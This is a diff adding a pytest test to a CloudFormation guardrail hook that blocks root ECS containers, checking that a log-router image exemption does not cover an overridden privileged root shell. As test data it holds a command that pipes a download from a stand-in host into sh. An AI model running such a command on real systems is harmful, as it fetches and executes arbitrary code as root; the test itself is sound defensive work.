@@ -2,6 +2,7 @@
 
 import json
 import logging
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -9,6 +10,8 @@ from hook_event import PLACEHOLDER_CREDENTIALS, hook_event, task_definition
 
 from guardrails_ecs_nonrootuser import handlers, policy
 from guardrails_ecs_nonrootuser.policy import MESSAGE_LIMIT
+
+ROOT = Path(__file__).resolve().parent.parent
 
 
 def invoke(event: dict[str, Any]) -> dict[str, Any]:
@@ -324,3 +327,32 @@ def test_the_event_script_prints_an_event_the_entrypoint_decides(
     response = invoke(event)
     assert response["hookStatus"] == "FAILED"
     assert "1 more reported only (WarnOnly)" in response["message"]
+
+
+def test_the_ready_configuration_does_not_exempt_a_root_shell_in_the_router_image() -> None:
+    """An image exemption is for what the image runs: a container of the FireLens router's
+    image that runs a shell of its own, privileged, as root, is decided like any other."""
+    ready = json.loads((ROOT / "deploy" / "config" / "enforce.json").read_text("utf-8"))
+    properties = ready["CloudFormationConfiguration"]["HookConfiguration"]["Properties"]
+    shell = {
+        "Name": "log_router",
+        "Image": "amazon/aws-for-fluent-bit:latest",
+        "EntryPoint": ["/bin/sh", "-c"],
+        "Command": ["curl -s https://example.invalid/x | sh"],
+        "User": "0",
+        "Privileged": "true",
+    }
+    router = {
+        "Name": "log_router",
+        "Image": "amazon/aws-for-fluent-bit:latest",
+        "FirelensConfiguration": {"Type": "fluentbit"},
+    }
+    response = invoke(hook_event({"ContainerDefinitions": [shell]}, properties))
+    assert (response["hookStatus"], response["errorCode"]) == ("FAILED", "NonCompliant")
+    assert (
+        "Exemptions[1] does not exempt it, as it overrides EntryPoint and Command"
+        in (response["message"])
+    )
+    response = invoke(hook_event({"ContainerDefinitions": [router]}, properties))
+    assert response["hookStatus"] == "SUCCESS"
+    assert [a["status"] for a in response["annotations"]] == ["SKIPPED"]
